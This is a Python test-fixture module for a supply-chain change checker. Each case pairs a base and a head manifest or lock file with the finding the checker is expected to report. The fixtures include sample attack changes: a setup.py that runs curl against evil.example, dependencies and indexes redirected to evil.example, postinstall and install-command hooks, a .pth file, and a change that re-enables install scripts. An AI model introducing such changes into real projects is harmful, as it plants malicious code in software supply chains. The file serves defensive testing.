"""Attacks on the supply chain of a project: base and head of a change, and the note that shows each."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from typing import Any, NamedTuple

SHA, OTHER_SHA = "a" * 40, "b" * 40
DIGEST = f"sha256:{'c' * 64}"
NPM = "https://registry.npmjs.org"


class Attack(NamedTuple):
    """One change of a file, or of several.

    ``expected`` is group, kind and name of a note; ``unchanged`` are files of base and head.
    """

    name: str
    base: Mapping[str, str]
    head: Mapping[str, str]
    expected: tuple[str, str, str]
    unchanged: Mapping[str, str] = {}


def changed(name: str, path: str, base: str, head: str, expected: tuple[str, str, str]) -> Attack:
    return Attack(name, {path: base}, {path: head}, expected)


def package_json(**tables: Any) -> str:
    return json.dumps({"name": "app", **tables}, indent=2)


def npm_lock(declared: Mapping[str, str], **entry: Any) -> str:
    """A lock file of npm with one package, ``left-pad``."""
    package = {
        "version": "1.3.0",
        "resolved": f"{NPM}/left-pad/-/left-pad-1.3.0.tgz",
        "integrity": "sha512-AAAA",
    }
    packages = {"": {"name": "app", "dependencies": dict(declared)}, "node_modules/left-pad": package | entry}
    return json.dumps({"name": "app", "lockfileVersion": 3, "packages": packages}, indent=2)


def without(text: str, line: str) -> str:
    return "".join(splitline for splitline in text.splitlines(keepends=True) if line not in splitline)


YARN = f"""# yarn lockfile v1


left-pad@^1.3.0:
  version "1.3.0"
  resolved "{NPM}/left-pad/-/left-pad-1.3.0.tgz#{SHA}"
  integrity sha512-AAAA
"""
BERRY = """__metadata:
  version: 8

"app@workspace:.":
  version: 0.0.0-use.local
  resolution: "app@workspace:."
  dependencies:
    left-pad: "npm:^1.3.0"
  languageName: unknown
  linkType: soft

"left-pad@npm:^1.3.0":
  version: 1.3.0
  resolution: "left-pad@npm:1.3.0"
  checksum: 10c0/aaaa
  languageName: node
  linkType: hard
"""
PNPM = """lockfileVersion: '9.0'

importers:

  .:
    dependencies:
      left-pad:
        specifier: ^1.3.0
        version: 1.3.0

packages:

  left-pad@1.3.0:
    resolution: {integrity: sha512-AAAA}

snapshots:

  left-pad@1.3.0: {}
"""
BUN = """{
  "lockfileVersion": 1,
  "workspaces": {
    "": {"name": "app", "dependencies": {"left-pad": "^1.3.0"}},
  },
  "packages": {
    "left-pad": ["left-pad@1.3.0", "", {}, "sha512-AAAA"],
  },
}
"""
UV = """version = 1

[[package]]
name = "app"
version = "1"
source = { virtual = "." }

[package.metadata]
requires-dist = [{ name = "six", specifier = "==1.17.0" }]

[[package]]
name = "six"
version = "1.17.0"
source = { registry = "https://pypi.org/simple" }
sdist = { url = "https://files.pythonhosted.org/p/six-1.17.0.tar.gz", hash = "sha256:aa" }
"""
POETRY = """[[package]]
name = "six"
version = "1.17.0"
files = [
    {file = "six-1.17.0.tar.gz", hash = "sha256:aa"},
]

[metadata]
lock-version = "2.1"
content-hash = "0123"
"""
PIPFILE_LOCK = json.dumps(
    {
        "_meta": {"hash": {"sha256": "01"}},
        "default": {"six": {"hashes": ["sha256:aa"], "version": "==1.17.0"}},
    }
)


def project(*dependencies: str) -> str:
    return f'[project]\nname = "app"\nversion = "1"\ndependencies = {json.dumps(dependencies)}\n'


def _python() -> Iterator[Attack]:
    base = project("six==1.17.0")
    yield changed(
        "a new dependency",
        "pyproject.toml",
        base,
        project("six==1.17.0", "sixx"),
        ("dependency", "added", "sixx"),
    )
    yield changed(
        "a pin becomes a range",
        "pyproject.toml",
        base,
        project("six>=1.17.0"),
        ("dependency", "unpinned", "six"),
    )
    yield changed(
        "no range at all",
        "pyproject.toml",
        project("six<2"),
        project("six"),
        ("dependency", "widened", "six"),
    )
    yield changed(
        "from git",
        "pyproject.toml",
        base,
        project("six @ git+https://evil.example/six"),
        ("dependency", "source", "six"),
    )
    yield changed(
        "from an archive",
        "pyproject.toml",
        base,
        project("six @ https://evil.example/six.tgz"),
        ("dependency", "source", "six"),
    )
    uv = base + '[tool.uv.sources]\nsix = { git = "https://evil.example/six", branch = "main" }\n'
    yield changed("a source of uv", "pyproject.toml", base, uv, ("dependency", "source", "six"))
    index = base + '[[tool.uv.index]]\nname = "evil"\nurl = "https://evil.example/simple"\n'
    yield changed("another index of uv", "pyproject.toml", base, index, ("dependency", "registry", "evil"))
    poetry = '[tool.poetry.dependencies]\nsix = "1.17.0"\n'
    yield changed(
        "Poetry: a caret",
        "pyproject.toml",
        poetry,
        poetry.replace('"1', '"^1'),
        ("dependency", "unpinned", "six"),
    )
    group = '[project]\nname = "app"\ndependencies = []\n[dependency-groups]\ndev = ["six"]\n'
    yield changed(
        "now at runtime",
        "pyproject.toml",
        group,
        group.replace("[]", '["six"]'),
        ("dependency", "runtime", "six"),
    )
    hashed = "six==1.17.0 \\\n    --hash=sha256:aa\n"
    yield changed("no hash", "requirements.txt", hashed, "six==1.17.0\n", ("dependency", "integrity", "six"))
    line = "six==1.17.0\n"
    yield changed(
        "an extra index",
        "requirements.txt",
        line,
        f"--extra-index-url https://evil.example\n{line}",
        ("dependency", "registry", "--extra-index-url"),
    )
    commit = f"six @ git+https://host.example/six@{SHA}\n"
    yield changed(
        "a branch for a commit",
        "requirements.txt",
        commit,
        commit.replace(SHA, "main"),
        ("dependency", "unpinned", "six"),
    )
    backend = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
    local = backend.replace('"hatchling.build"', '"backend"\nbackend-path = ["."]')
    yield changed(
        "a build backend in the tree",
        "pyproject.toml",
        backend,
        local,
        ("install", "backend", "backend-path"),
    )
    setup = "from setuptools import setup\nsetup(name='app')\n"
    runs = setup + "import subprocess\nsubprocess.run(['curl', 'evil.example'])\n"
    yield changed(
        "setup.py starts a process", "setup.py", setup, runs, ("install", "setup", "subprocess.run")
    )
    command = setup.replace("name='app'", "name='app', cmdclass={'install': Evil}")
    yield changed("setup.py replaces a command", "setup.py", setup, command, ("install", "setup", "cmdclass"))
    yield Attack("a .pth file", {}, {"src/evil.pth": "import os\n"}, ("install", "setup", "evil.pth"))


def _python_locks() -> Iterator[Attack]:
    manifest = {"pyproject.toml": project("six==1.17.0")}
    elsewhere = UV.replace("files.pythonhosted.org", "evil.example")
    yield Attack(
        "uv: another host", {"uv.lock": UV}, {"uv.lock": elsewhere}, ("lock", "redirected", "six"), manifest
    )
    poisoned = UV.replace("sha256:aa", "sha256:bb")
    yield Attack(
        "uv: another hash", {"uv.lock": UV}, {"uv.lock": poisoned}, ("lock", "integrity", "six"), manifest
    )
    turned = UV.replace(
        'url = "https://files.pythonhosted.org/p/six-1.17.0.tar.gz", hash = "sha256:aa"',
        'hash = "sha256:bb", url = "https://files.pythonhosted.org/p/six-1.17.0.tar.gz"',
    )
    yield Attack(
        "uv: another hash, other order",
        {"uv.lock": UV},
        {"uv.lock": turned},
        ("lock", "integrity", "six"),
        manifest,
    )
    foreign = elsewhere.replace("1.17.0", "1.18.0").replace("==1.18", "==1.17")
    yield Attack(
        "uv: a new version from elsewhere",
        {"uv.lock": UV},
        {"uv.lock": foreign},
        ("lock", "foreign-host", "six"),
        manifest,
    )
    hidden = UV.replace(
        '[[package]]\nname = "six"', "note = '''\n[[package]]\n'''\n[[package]]\nname = \"six\""
    )
    yield Attack(
        "uv: tables within a text", {"uv.lock": UV}, {"uv.lock": hidden}, ("lock", "unreadable", ""), manifest
    )
    more = {"pyproject.toml": project("six==1.17.0", "evil")}
    yield Attack("uv: not locked", manifest, more, ("lock", "unsatisfied", "evil"), {"uv.lock": UV})
    poisoned = POETRY.replace("sha256:aa", "sha256:bb")
    yield Attack(
        "Poetry: another hash",
        {"poetry.lock": POETRY},
        {"poetry.lock": poisoned},
        ("lock", "integrity", "six"),
    )
    source = POETRY.replace(
        "[metadata]", '[package.source]\ntype = "legacy"\nurl = "https://evil.example/simple"\n\n[metadata]'
    )
    yield Attack(
        "Poetry: another index",
        {"poetry.lock": POETRY},
        {"poetry.lock": source},
        ("lock", "redirected", "six"),
    )
    old = {"pyproject.toml": '[tool.poetry.dependencies]\nsix = "1.17.0"\n'}
    new = {"pyproject.toml": '[tool.poetry.dependencies]\nsix = "^1.17.0"\n'}
    yield Attack(
        "Poetry: the lock file is stale", old, new, ("lock", "not-updated", ""), {"poetry.lock": POETRY}
    )
    poisoned = PIPFILE_LOCK.replace("sha256:aa", "sha256:bb")
    yield Attack(
        "Pipenv: another hash",
        {"Pipfile.lock": PIPFILE_LOCK},
        {"Pipfile.lock": poisoned},
        ("lock", "integrity", "six"),
    )


def _npm() -> Iterator[Attack]:
    base = package_json(dependencies={"left-pad": "1.3.0"}, scripts={"test": "a"})

    def now(name: str, expected: tuple[str, str, str], **tables: Any) -> Attack:
        head = package_json(**({"dependencies": {"left-pad": "1.3.0"}, "scripts": {"test": "a"}} | tables))
        return changed(name, "package.json", base, head, expected)

    yield now("a caret", ("dependency", "unpinned", "left-pad"), dependencies={"left-pad": "^1.3.0"})
    yield now("a fork", ("dependency", "source", "left-pad"), dependencies={"left-pad": "evil/left-pad"})
    yield now("an alias", ("dependency", "source", "left-pad"), dependencies={"left-pad": "npm:evil@1.3.0"})
    yield now("an override", ("dependency", "added", "deep"), overrides={"deep": "npm:evil@1.0.0"})
    yield now(
        "postinstall", ("install", "script", "postinstall"), scripts={"test": "a", "postinstall": "node x.js"}
    )
    yield now("trusted by Bun", ("install", "allowed-build", "evil"), trustedDependencies=["evil"])
    yield now("built by pnpm", ("install", "allowed-build", "evil"), pnpm={"onlyBuiltDependencies": ["evil"]})
    yield changed(
        "scripts are not ignored",
        ".npmrc",
        "ignore-scripts=true\n",
        "ignore-scripts=false\n",
        ("install", "setting", "ignore-scripts"),
    )
    yield changed(
        "another registry",
        ".npmrc",
        "",
        "registry=https://evil.example\n",
        ("dependency", "registry", "registry"),
    )
    yield changed(
        "another yarn", ".yarnrc.yml", "", "yarnPath: .yarn/evil.cjs\n", ("install", "setting", "yarnPath")
    )
    pinned = package_json(packageManager=f"pnpm@9.0.0+sha512.{SHA}")
    yield changed(
        "the package manager",
        "package.json",
        pinned,
        package_json(packageManager="pnpm@9.0.0"),
        ("dependency", "integrity", "pnpm"),
    )


def _npm_locks() -> Iterator[Attack]:
    good = npm_lock({"left-pad": "^1.3.0"})
    manifest = {"package.json": package_json(dependencies={"left-pad": "^1.3.0"})}

    def lock(name: str, path: str, base: str, head: str, change: str) -> Attack:
        return Attack(name, {path: base}, {path: head}, ("lock", change, "left-pad"), manifest)

    def npm(name: str, change: str, **entry: Any) -> Attack:
        return lock(name, "package-lock.json", good, npm_lock({"left-pad": "^1.3.0"}, **entry), change)

    yield npm(
        "npm: another host", "redirected", resolved="https://evil.example/left-pad/-/left-pad-1.3.0.tgz"
    )
    yield npm("npm: another hash", "integrity", integrity="sha512-BBBB")
    yield npm("npm: no hash", "integrity-removed", integrity="")
    yield npm("npm: another package", "other-package", resolved=f"{NPM}/evil/-/evil-1.3.0.tgz")
    yield npm(
        "npm: without TLS", "insecure", resolved="http://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"
    )
    script = npm_lock({"left-pad": "^1.3.0"}, hasInstallScript=True)
    yield Attack(
        "npm: a script",
        {"package-lock.json": good},
        {"package-lock.json": script},
        ("install", "locked-script", "left-pad"),
        manifest,
    )
    more = {"package.json": package_json(dependencies={"left-pad": "^1.3.0", "evil": "1"})}
    yield Attack(
        "npm: not locked", manifest, more, ("lock", "unsatisfied", "evil"), {"package-lock.json": good}
    )
    yield lock(
        "yarn: another host",
        "yarn.lock",
        YARN,
        YARN.replace("registry.npmjs.org", "evil.example"),
        "redirected",
    )
    yield lock("yarn: another hash", "yarn.lock", YARN, YARN.replace("AAAA", "BBBB"), "integrity")
    yield lock(
        "yarn: another package",
        "yarn.lock",
        YARN,
        YARN.replace("left-pad/-/left-pad", "evil/-/evil"),
        "other-package",
    )
    yield Attack("yarn: not locked", manifest, more, ("lock", "unsatisfied", "evil"), {"yarn.lock": YARN})
    yield lock("yarn 4: another checksum", "yarn.lock", BERRY, BERRY.replace("aaaa", "bbbb"), "integrity")
    yield lock("pnpm: another hash", "pnpm-lock.yaml", PNPM, PNPM.replace("AAAA", "BBBB"), "integrity")
    tarball = PNPM.replace("AAAA}", "AAAA, tarball: https://evil.example/left-pad.tgz}")
    yield lock("pnpm: an archive", "pnpm-lock.yaml", PNPM, tarball, "redirected")
    yield Attack(
        "pnpm: not locked", manifest, more, ("lock", "unsatisfied", "evil"), {"pnpm-lock.yaml": PNPM}
    )
    aliased = PNPM.replace("  .:\n", "  .: &a\n").replace("packages:\n", "  more: *a\n\npackages:\n")
    yield Attack(
        "pnpm: an alias",
        {"pnpm-lock.yaml": PNPM},
        {"pnpm-lock.yaml": aliased},
        ("lock", "unreadable", ""),
        manifest,
    )
    yield lock("Bun: another hash", "bun.lock", BUN, BUN.replace("AAAA", "BBBB"), "integrity")
    yield Attack("Bun: not locked", manifest, more, ("lock", "unsatisfied", "evil"), {"bun.lock": BUN})
    yield Attack("no lock file is left", {"yarn.lock": YARN}, {}, ("lock", "removed", ""), manifest)


def _pins() -> Iterator[Attack]:
    image = f"FROM python:3.12.1@{DIGEST}\n"
    yield changed(
        "no digest", "Dockerfile", image, "FROM python:3.12.1\n", ("dependency", "integrity", "python")
    )
    yield changed(
        "a moving tag",
        "Dockerfile",
        "FROM python:3.12.1\n",
        "FROM python:3\n",
        ("dependency", "unpinned", "python"),
    )
    yield changed(
        "another image",
        "Dockerfile",
        image,
        f"FROM evil/python@{DIGEST}\n",
        ("dependency", "added", "evil/python"),
    )
    workflow = f"jobs:\n  a:\n    steps:\n      - uses: actions/checkout@{SHA}\n"
    path = ".github/workflows/ci.yml"
    yield changed(
        "a tag for a commit",
        path,
        workflow,
        workflow.replace(SHA, "v4"),
        ("dependency", "unpinned", "actions/checkout"),
    )
    more = f"{workflow}      - uses: evil/action@v1\n"
    yield changed("a new action", path, workflow, more, ("dependency", "added", "evil/action"))


ATTACKS = (*_python(), *_python_locks(), *_npm(), *_npm_locks(), *_pins())
